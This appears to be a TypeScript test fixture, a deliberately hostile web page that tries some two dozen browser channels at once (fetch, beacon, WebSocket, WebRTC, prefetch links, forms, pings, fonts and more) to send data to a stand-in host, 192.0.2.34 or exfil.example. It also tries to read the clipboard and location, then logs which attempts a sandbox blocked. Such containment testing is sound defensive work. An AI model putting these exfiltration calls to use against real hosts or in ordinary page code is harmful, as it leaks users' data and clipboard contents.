// A hostile page: every way out of a browser window that is known to us, all tried at once. Runs inside a page, so it
// uses nothing from outside its body. Hosts are of the documentation ranges: they are nobody's.

/** What became of each way: `blocked …`, `denied …` or whatever the browser said. */
export async function attack(): Promise<Record<string, string>> {
  const host = '192.0.2.34'
  const settled = (what: EventTarget, good: string, bad: string) =>
    new Promise<string>((resolve) => {
      what.addEventListener(good, () => resolve(good))
      what.addEventListener(bad, () => resolve(bad))
    })
  const add = (tag: string, attributes: Record<string, string>) => {
    const element = document.createElement(tag)
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
    document.body.append(element)
    return element
  }

  const ways: Record<string, () => unknown> = {
    fetch: () => fetch(`http://${host}:8081/?words`),
    'fetch by name': () => fetch('https://fetch.exfil.example/'),
    XMLHttpRequest: () => {
      const request = new XMLHttpRequest()
      request.open('GET', `http://${host}:8082/`)
      request.send()
      return settled(request, 'load', 'error')
    },
    image: () => settled(add('img', { src: `http://${host}:8083/i.png?words` }), 'load', 'error'),
    WebSocket: () => settled(new WebSocket(`ws://${host}:8084/`), 'open', 'error'),
    EventSource: () => settled(new EventSource(`http://${host}:8085/`), 'open', 'error'),
    beacon: () => navigator.sendBeacon(`http://${host}:8086/`, 'words'),
    WebRTC: async () => {
      const iceServers = [
        { urls: `stun:${host}:3478` },
        { urls: `turn:${host}:3479?transport=tcp`, username: 'u', credential: 'c' },
      ]
      const peer = new RTCPeerConnection({ iceServers })
      peer.createDataChannel('words')
      await peer.setLocalDescription(await peer.createOffer())
      return settled(peer, 'icecandidateerror', 'never')
    },
    WebTransport: () => new WebTransport(`https://${host}:8087/`).ready,
    'link hints': () => {
      for (const rel of [
        'dns-prefetch',
        'preconnect',
        'prefetch',
        'preload',
        'modulepreload',
        'stylesheet',
        'icon',
      ])
        document.head.append(
          Object.assign(document.createElement('link'), { rel, href: `https://${rel}.exfil.example/` }),
        )
    },
    frame: () => settled(add('iframe', { src: `http://${host}:8088/` }), 'load', 'error'),
    plugin: () => settled(add('object', { data: `http://${host}:8089/` }), 'load', 'error'),
    media: () => settled(add('video', { src: `http://${host}:8090/` }), 'loadeddata', 'error'),
    script: () => settled(add('script', { src: `http://${host}:8091/` }), 'load', 'error'),
    worker: () =>
      settled(new Worker(`data:text/javascript,fetch('http://${host}:8092/')`), 'message', 'error'),
    style: () => add('div', { style: `background: url(http://${host}:8093/)` }).style.background,
    font: () => new FontFace('words', `url(http://${host}:8094/)`).load(),
    'second window': () => (window.open(`http://${host}:8095/`) === null ? 'refused' : 'opened'),
    form: () =>
      (add('form', { action: `http://${host}:8096/`, target: '_blank' }) as HTMLFormElement).submit(),
    ping: () =>
      add('a', { href: `http://${host}:8097/`, target: '_blank', ping: `http://${host}:8097/` }).click(),
    'meta refresh': () => add('meta', { 'http-equiv': 'refresh', content: `0;url=http://${host}:8098/` }),
    place: () =>
      new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('given'),
          ({ code }) => resolve(`denied ${code}`),
        ),
      ),
    clipboard: () => navigator.clipboard.readText(),
    notification: () => Notification.requestPermission(),
    title: () => (document.title = 'words'),
  }

  const outcome = async ([name, way]: [string, () => unknown]): Promise<[string, string]> => {
    const patience = new Promise((resolve) => setTimeout(() => resolve('no answer'), 3_000))
    try {
      return [name, String(await Promise.race([way(), patience]))]
    } catch (error) {
      return [name, `blocked ${String(error)}`]
    }
  }
  return Object.fromEntries(await Promise.all(Object.entries(ways).map(outcome)))
}

/** Last, as it may end the page. */
export function leave(): void {
  location.href = 'http://192.0.2.34:8099/'
}
